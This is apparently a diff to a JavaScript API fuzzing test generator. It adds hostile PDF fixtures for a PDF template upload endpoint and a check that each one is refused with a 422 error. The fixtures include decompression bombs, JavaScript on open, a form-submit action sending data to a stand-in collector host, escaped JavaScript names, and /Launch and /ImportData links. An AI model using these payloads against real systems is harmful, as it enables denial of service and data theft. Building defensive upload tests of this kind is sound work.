@@ -420,6 +420,15 @@ export function makeCase(o, fx, r, mode) {
     body = r.chance(0.5) ? JSON.stringify(invalidValue(r)) : "x".repeat(r.pick([10, 2_000_000]));
     contentType = r.pick(["application/json", "text/plain", undefined]);
   }
+  let hostile;
+  if (o.id === "uploadPdfTemplate" && mode === "valid" && fx.hostilePdfs?.length) {
+    // The next hostile PDF in turn (nothing drawn from the generator, so every other case stays as seeded).
+    const list = fx.hostilePdfs;
+    list.turn = ((list.turn ?? -1) + 1) % list.length;
+    hostile = list[list.turn];
+    body = hostile.body;
+    contentType = "application/pdf";
+  }
   if (contentType && body !== undefined) headers.push(["content-type", contentType]);
   if (mode === "invalid" && r.chance(0.25)) {
     // Duplicated and oversized headers.
@@ -431,7 +440,7 @@ export function makeCase(o, fx, r, mode) {
     else headers.push(["content-length", "99999999"]);
   }
   if (junkPath || (mode === "invalid" && r.chance(0.03))) path = path.replace(/^\/v1\//, r.pick(["/v1/", "/v1//", "/V1/", "/v1/./"]));
-  return { opId: o.id, mode, method: o.method, path, headers, body, authKind };
+  return { opId: o.id, mode, method: o.method, path, headers, body, authKind, hostile };
 }
 
 function formOf(value) {
@@ -477,6 +486,86 @@ export function* deepCases(spec, fx, { seed = 1 } = {}) {
   }
 }
 
+/** A PDF of ASCII text only (so it travels as a string body): numbered objects, an xref table, a trailer. */
+function asciiPdf(objects) {
+  let out = "%PDF-1.7\n";
+  const at = [];
+  objects.forEach((o, i) => {
+    at.push(out.length);
+    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
+  });
+  const xref = out.length;
+  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${at.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("")}`;
+  return `${out}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
+}
+
+/** Catalogue, page tree and one page, with extra entries for the catalogue and the page, then more objects (4 0 R on). */
+const onePage = (catalog = "", page = "", ...more) =>
+  asciiPdf([
+    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
+    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${page} >>`,
+    ...more,
+  ]);
+
+/** A stream of these bytes written as hex, then through `filters` (ASCIIHexDecode first). */
+const hexStream = (bytes, filters, dict = "") => {
+  const hex = `${Array.from(bytes, (b) => b.toString(16).padStart(2, "0")).join("")}>`;
+  return `<< ${dict} /Filter [/ASCIIHexDecode ${filters}] /Length ${hex.length} >>\nstream\n${hex}\nendstream`;
+};
+
+async function deflate(chunks) {
+  const cs = new CompressionStream("deflate");
+  const writer = cs.writable.getWriter();
+  const written = (async () => {
+    for (const c of chunks) await writer.write(c);
+    await writer.close();
+  })();
+  const out = new Uint8Array(await new Response(cs.readable).arrayBuffer());
+  await written;
+  return out;
+}
+
+/**
+ * Hostile PDF templates, ASCII only: zlib bombs past the 64 MB limit (an object stream, and a page's
+ * content stream deflated twice) and active content (JavaScript on open, a page /AA submitting the
+ * form away, #xx-escaped JavaScript names, /Launch, /ImportData, rich media). Each must be refused
+ * with 422 whose message matches `expect`, and nothing stored.
+ */
+export async function hostilePdfs() {
+  const zeros = new Uint8Array(1024 * 1024);
+  const once = await deflate(Array.from({ length: 70 }, () => zeros));
+  const twice = await deflate([once]);
+  const decompressed = /too large once decompressed/;
+  const link = (action) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A ${action} >>]`;
+  return [
+    { name: "bomb in an object stream", expect: decompressed, body: onePage("", "", hexStream(once, "/FlateDecode", "/Type /ObjStm /N 1 /First 4")) },
+    {
+      name: "bomb deflated twice in the page's content",
+      expect: decompressed,
+      body: onePage("", "/Contents 4 0 R", hexStream(twice, "/FlateDecode /FlateDecode")),
+    },
+    { name: "JavaScript on open", expect: /JavaScript.*\/OpenAction/, body: onePage("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>") },
+    {
+      name: "page /AA submitting the form away",
+      expect: /\/AA .*\/SubmitForm/,
+      body: onePage("", "/AA << /O << /S /SubmitForm /F << /FS /URL /F (https://collector.example.net/x) >> >> >>"),
+    },
+    {
+      name: "escaped JavaScript names",
+      expect: /JavaScript/,
+      body: onePage("/Names << /J#61vaScript << /Names [(x) 4 0 R] >> >>", "", "<< /S /J#61vaScript /J#53 (this.print\\(\\)) >>"),
+    },
+    { name: "launch link", expect: /\/Launch/, body: onePage("", link("<< /S /Launch /F (calc.exe) >>")) },
+    { name: "import data link", expect: /\/ImportData/, body: onePage("", link("<< /S /ImportData /F (x.fdf) >>")) },
+    {
+      name: "rich media",
+      expect: /rich media/,
+      body: onePage("", "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>]"),
+    },
+  ];
+}
+
 /** `n` cases spread evenly over the operations, families 30% valid, 30% boundary, 40% invalid. */
 export function* cases(spec, fx, { seed = 1, n = 300 } = {}) {
   const ops = operations(spec);
@@ -511,6 +600,7 @@ export function judge(c, status, text, contentType) {
       problems.push(`expected ${c.expect.status} ${c.expect.code}, got ${status}: ${text.slice(0, 200)}`);
     }
   }
+  if (c.hostile && !(status === 422 && c.hostile.expect.test(text))) problems.push(`hostile PDF (${c.hostile.name}) answered ${status}: ${text.slice(0, 200)}`);
   if (status >= 400 && status < 500) {
     let j = null;
     try {
